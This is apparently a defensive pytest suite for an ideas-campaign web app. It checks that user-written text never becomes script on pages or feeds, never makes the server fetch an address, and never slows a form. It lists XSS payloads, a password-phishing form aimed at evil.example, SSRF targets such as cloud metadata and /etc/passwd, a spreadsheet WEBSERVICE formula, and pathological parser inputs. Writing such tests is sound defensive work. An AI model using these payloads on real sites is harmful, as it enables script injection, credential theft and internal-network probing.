"""What people write does nothing: no script of theirs is on a page, nothing of theirs is fetched, none is slow."""

import socket
from html.parser import HTMLParser
from io import BytesIO
from secrets import token_hex
from xml.etree import ElementTree as ET

import pytest
from openpyxl import Workbook
from sqlalchemy import select

from ideas.answers.action import commit_to
from ideas.answers.debriefs.debrief import write_debrief
from ideas.contributions.comment import Comment
from ideas.contributions.idea import Idea
from tests.effort import effort

pytestmark = [pytest.mark.slow, pytest.mark.one_database]

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><style>*{display:none}</style>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) ![z](javascript:alert(1))",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "javascript:alert(1)//",
    "<form action=//evil.example><input name=password>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    "<!--><script>alert(1)</script>-->",
)


class Page(HTMLParser):
    """What a browser would run or open of a page."""

    def __init__(self, text):
        super().__init__()
        self.found, self.fetched = [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        given = {name: (value or "").replace("\t", "").strip().lower() for name, value in attributes}
        if tag in {"iframe", "object", "embed", "base", "style", "math"} or (tag == "script" and "src" not in given):
            self.found.append((tag, given))
        fetched = {"src", "srcset", "poster", "data", "background"} | (
            {"href"} if tag in {"link", "image", "use"} else set()
        )
        self.fetched += [value for name, value in given.items() if name in fetched]
        for name, value in given.items():
            opens = name in {"href", "src", "action", "formaction", "srcset", "srcdoc", "data", "xlink:href"}
            if name.startswith("on") or name == "style":
                self.found.append((tag, name))
            elif opens and value.startswith(("javascript:", "data:text", "vbscript:", "//", "x")):
                self.found.append((tag, name, value))


@pytest.fixture
def written(session, make_person, make_campaign, make_theme, give_answer, now):
    """Fill everything that people write with this text, as far as it goes: returns the campaign and its owner."""

    def write(text):
        eve = make_person(text[:80], email=f"{token_hex(4)}@example.org", headline=text[:160])
        facts = {"title": text[:120], "challenge": text[:300], "brief": text, "benefit": text, "motivation": text}
        campaign = make_campaign(owner=eve, owner_word=text, **facts, closes_at=now, grouped_at=now)
        theme = make_theme(campaign, text[:80], bodies=[text], title=text[:120], author=eve)
        idea = session.scalars(select(Idea).where(Idea.campaign_id == campaign.id)).one()
        session.add(Comment(idea_id=idea.id, author_id=eve.id, body=text, created_at=now))
        decision = give_answer(theme, reason=text, respondent=eve)
        commit_to(session, decision, title=text[:160], impact=text, owner=eve, due_on=now.date(), by=eve, now=now)
        debrief = write_debrief(session, campaign, body="Thanks.", by=eve, now=now)
        debrief.body = text  # whatever the rules let through, now or later
        debrief.published_at = campaign.debriefed_at = now
        session.commit()
        return campaign, eve, idea, theme

    return write


@pytest.mark.parametrize("text", [" ".join(SCRIPTS[first::4]) for first in range(4)])
def test_no_script_of_a_text_is_on_a_page_or_in_a_feed(client, signed_in, written, text):
    campaign, eve, idea, theme = written(text)
    address = f"/campaigns/{campaign.id}"
    pages = ("", "/ideas", f"/ideas/{idea.id}", "/themes", f"/themes/{theme.id}", "/debrief", "/promises")
    addresses = [*(address + page for page in pages), "/campaigns", f"/search?containing={text[:9]}", "/promises"]
    for browser, more in ((client, []), (signed_in(eve), ["/me", "/me/profile", f"{address}/debrief/write"])):
        for each in addresses + more:
            answer = browser.get(each)
            assert answer.status_code == 200, each
            assert Page(answer.text).found == [], each
            assert ">49<" not in answer.text
    for feed in (f"{address}/promises.atom", "/promises.atom", f"{address}/promises.svg"):
        for element in ET.fromstring(client.get(feed).data).iter():  # noqa: S314 -- our own
            assert element.tag.rpartition("}")[2] not in {"script", "img", "iframe", "foreignObject"}


@pytest.fixture
def listening():
    """A port of this machine where something waits for a connection."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield listener


def test_an_address_in_a_text_a_table_or_a_picture_is_never_opened(client, signed_in, written, listening, monkeypatch):
    near = f"127.0.0.1:{listening.getsockname()[1]}"
    tried, connect = [], socket.socket.connect
    monkeypatch.setattr(socket.socket, "connect", lambda self, to: tried.append(to) or connect(self, to))
    for host in (near, "169.254.169.254/latest/meta-data", f"localhost:{near.rpartition(':')[2]}"):
        text = (
            f"![a](http://{host}/a.png) <img src=http://{host}/b> <iframe src=http://{host}></iframe> file:///etc/passwd"
            f" <link rel=stylesheet href=http://{host}/c.css> [d](http://{host}/d) @import url(http://{host}/e)"
        )
        campaign, eve, idea, theme = written(text)
        owner, address = signed_in(eve), f"/campaigns/{campaign.id}"
        for page in ("", "/ideas", f"/ideas/{idea.id}", "/themes", f"/themes/{theme.id}", "/debrief", "/debrief/write"):
            shown = owner.get(address + page)
            assert shown.status_code == 200
            assert not [address for address in Page(shown.text).fetched if host in address]
        book = Workbook()
        book.active.append(["text"])
        book.active.append([f'=WEBSERVICE("http://{host}/f")'])
        book.active.append([f"http://{host}/g"])
        book.active["A3"].hyperlink = f"http://{host}/h"
        book.save(file := BytesIO())
        svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{host}/i"/></svg>'.encode()
        for name, content in (("a.xlsx", file.getvalue()), ("a.svg", svg), ("a.csv", f"text\n{text}\n".encode())):
            owner.post(f"{address}/import", data={"file": (BytesIO(content), name)}, follow_redirects=True)
            owner.post(f"{address}/edit", data={"portrait": (BytesIO(content), name)})
    with pytest.raises(BlockingIOError):  # nobody has come
        listening.accept()
    assert [to for to in tried if not str(to).endswith("similar.socket")] == []


# Each once took a server half a minute or more: marks in turns, spaces after braces, Markdown of the worst kinds.
WORST = (
    "e" + "\u0315\u0300" * 20_000,
    "{{" + " " * 4_000,
    "[" * 30_000,
    "*a_" * 10_000,
    "> " * 15_000,
    "`" * 15_000 + "a" * 15_000,
    "<a" * 15_000,
    "|a" * 15_000 + "\n" + "|-" * 15_000,
)


@pytest.mark.parametrize(
    "worst", WORST, ids=["marks", "braces", "brackets", "emphasis", "quotes", "code", "tags", "table"]
)
def test_no_field_takes_a_second_whatever_is_written_in_it(
    app, signed_in, make_campaign, idea, alice, charlie, campaign, now, worst
):
    debriefing = make_campaign(closes_at=now, grouped_at=now)
    visitor, member, owner = app.test_client(), signed_in(charlie), signed_in(alice)
    here, there = f"/campaigns/{campaign.id}", f"/campaigns/{debriefing.id}"
    forms = {
        "/sign-in": (visitor, ("email", "password", "next")),
        "/sign-up": (visitor, ("name", "email", "password", "timezone")),
        "/forgot": (visitor, ("email",)),
        "/me/profile": (member, ("name", "headline", "timezone")),
        f"{here}/ideas/new": (member, ("title", "body", "form_key")),
        f"{here}/ideas/save": (member, ("title", "body")),
        f"{here}/ideas/{idea.id}/edit": (member, ("title", "body")),
        f"{here}/ideas/{idea.id}/comments": (member, ("body",)),
        "/campaigns/new": (owner, ("title", "challenge", "brief", "benefit", "motivation", "owner_word", "opens_at")),
        f"{there}/debrief/write": (owner, ("body", "change_reason")),
        f"{there}/debrief/preview": (owner, ("body",)),
        f"{here}/close": (owner, ("reason",)),
    }
    for address, (browser, fields) in forms.items():
        with effort() as cost:
            answer = browser.post(address, data=dict.fromkeys(fields, worst))
        assert cost.seconds < 1, address
        assert answer.status_code in {200, 303, 404, 413, 422}, address
    with effort() as cost:
        visitor.get("/search", query_string={"containing": worst[:30_000]})
    assert cost.seconds < 1
